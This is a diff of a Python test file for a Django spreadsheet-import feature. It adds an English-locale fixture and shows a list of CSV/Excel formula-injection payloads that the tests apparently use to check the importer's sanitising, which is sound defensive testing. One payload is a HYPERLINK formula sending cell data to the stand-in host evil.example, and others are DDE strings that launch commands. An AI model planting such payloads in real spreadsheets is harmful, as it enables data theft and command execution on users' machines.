@@ -15,7 +15,7 @@ from canhgac.constituency.importing.reading import MAX_CELL_CHARS, MAX_COLUMNS
 from canhgac.constituency.models import Asset, Unit
 from canhgac.constituency.tests.data.builders import csv_bytes, xlsx_bytes
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]  # messages asserted in English
 
 INJECTIONS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"bấm\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C calc'!A0"]
